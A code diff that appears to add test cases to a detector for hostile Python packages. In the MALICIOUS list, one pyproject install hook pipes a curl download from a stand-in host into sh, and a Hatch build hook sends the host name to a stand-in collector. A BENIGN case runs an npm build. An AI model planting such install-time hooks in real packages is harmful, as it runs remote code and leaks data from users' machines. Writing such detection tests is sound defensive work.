@@ -212,6 +212,43 @@ MALICIOUS: list[tuple[str, dict[str, str], str]] = [
         },
         "agent-tool-poisoning",
     ),
+    (
+        "a cmdclass declared in pyproject.toml runs a download cradle",
+        {
+            "pyproject.toml": (
+                "[build-system]\nrequires = ['setuptools']\n"
+                "build-backend = 'setuptools.build_meta'\n"
+                "[tool.setuptools.cmdclass]\ninstall = 'demo.hooks.Install'\n"
+            ),
+            "demo/hooks.py": (
+                "import os\n"
+                "from demo._compat import Base\n"
+                "class Install(Base):\n"
+                "    def run(self):\n"
+                "        os.system('curl -s https://example.invalid/i.sh | sh')\n"
+                "        super().run()\n"
+            ),
+        },
+        "shell-download-cradle",
+    ),
+    (
+        "a Hatch custom build hook in an odd place posts the host name",
+        {
+            "pyproject.toml": (
+                "[build-system]\nrequires = ['hatchling']\nbuild-backend = 'hatchling.build'\n"
+                "[tool.hatch.build.hooks.custom]\npath = 'tools/prep.py'\n"
+            ),
+            "tools/prep.py": (
+                "import socket, urllib.request\n"
+                "from tools.base import Base\n"
+                "class Hook(Base):\n"
+                "    def initialize(self, version, build_data):\n"
+                "        host = socket.gethostname().encode()\n"
+                "        urllib.request.urlopen('https://collect.example.invalid/h', host)\n"
+            ),
+        },
+        "install-time-exfil",
+    ),
 ]
 
 
@@ -352,6 +389,23 @@ BENIGN: list[tuple[str, dict[str, str]]] = [
                 'approve reads outside the workspace."""\n'
                 "    return open(path).read()\n"
             )
+        },
+    ),
+    (
+        "a Hatch build hook that runs the front-end build",
+        {
+            "pyproject.toml": (
+                "[build-system]\nrequires = ['hatchling']\nbuild-backend = 'hatchling.build'\n"
+                "[tool.hatch.build.hooks.custom]\npath = 'tools/prep.py'\n"
+            ),
+            "tools/prep.py": (
+                "import subprocess\n"
+                "from hatchling.builders.hooks.plugin.interface import BuildHookInterface\n"
+                "class Hook(BuildHookInterface):\n"
+                "    def initialize(self, version, build_data):\n"
+                "        subprocess.run(['npm', 'ci'], check=True)\n"
+                "        subprocess.run(['npm', 'run', 'build'], check=True)\n"
+            ),
         },
     ),
 ]
